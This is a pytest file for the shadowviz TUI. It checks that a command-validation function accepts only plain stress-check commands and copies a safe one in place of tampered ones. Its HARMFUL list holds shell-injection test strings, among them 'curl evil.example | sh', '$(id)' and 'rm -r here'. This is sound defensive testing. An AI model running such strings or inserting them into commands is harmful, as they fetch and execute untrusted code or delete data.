"""A record may bring any text as the command of a check: only what runs a stress check and nothing else is copied."""

import shlex
from pathlib import Path

import msgspec
import pytest
from boundary_logs import small_stress_log
from textual.pilot import Pilot
from tui_runs import press, run_app
from walked_logs import lines_of

from shadowviz.sources.logfile import LogFile
from shadowviz.tui.app import ShadowvizApp
from shadowviz.tui.stress_words import is_stress_command
from shadowviz.tui.themed import AppOptions
from shadowviz_engine.core.events import BoundaryChecked

HARMLESS = ("shadowviz stress tiny --lengths 128", "shadowviz stress 'a b' --lengths 1:3", "shadowviz stress")
HARMFUL = (
    "shadowviz stress tiny; curl evil.example | sh",
    "shadowviz stress tiny;curl evil.example",
    "shadowviz stress tiny | sh",
    "shadowviz stress tiny\nrm -r here",
    "shadowviz stress tiny \n",
    "shadowviz stress $(id)",
    "shadowviz stress `id`",
    "shadowviz stress 'tiny' && id",
    'shadowviz stress "tiny" \'open',
    "shadowviz stress tiny > file",
    "shadowviz stress tiny #",
    "shadowviz stress ~",
    "shadowviz stress *",
    "id; shadowviz stress tiny",
    "X=1 shadowviz stress tiny",
    "shadowviz why run.jsonl r1",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_plain_command_is_one(text: str) -> None:
    assert is_stress_command(text)


@pytest.mark.parametrize("text", HARMFUL)
def test_what_a_shell_does_more_with_is_no_plain_command(text: str) -> None:
    assert not is_stress_command(text)


def stress_log(path: Path, command: str) -> Path:
    """A record of which every check that found something brings this command along."""
    events = [
        msgspec.structs.replace(event, command=command)
        if isinstance(event, BoundaryChecked) and event.command
        else event
        for event in LogFile(small_stress_log(path)).events()
    ]
    path.write_bytes(lines_of(events))
    return path


def test_y_copies_a_plain_command_in_place_of_a_harmful_one_and_a_plain_one_as_it_is(tmp_path: Path) -> None:
    copied = {}

    for command in (HARMLESS[0], HARMFUL[0], HARMFUL[3], HARMFUL[8]):

        async def keys(app: ShadowvizApp, pilot: Pilot, command: str = command) -> None:
            await press(app, pilot, "n", "y")
            copied[command] = app.clipboard

        run_app(stress_log(tmp_path / "run.jsonl", command), keys, options=AppOptions(screen="stress"))
    assert copied.pop(HARMLESS[0]) == HARMLESS[0]
    assert len(set(copied.values())) == 1
    plain = next(iter(copied.values()))
    assert plain.isprintable()
    assert is_stress_command(plain)
    assert "--lengths 128" in plain
    assert shlex.split(plain)[:3] == ["shadowviz", "stress", "tiny"]
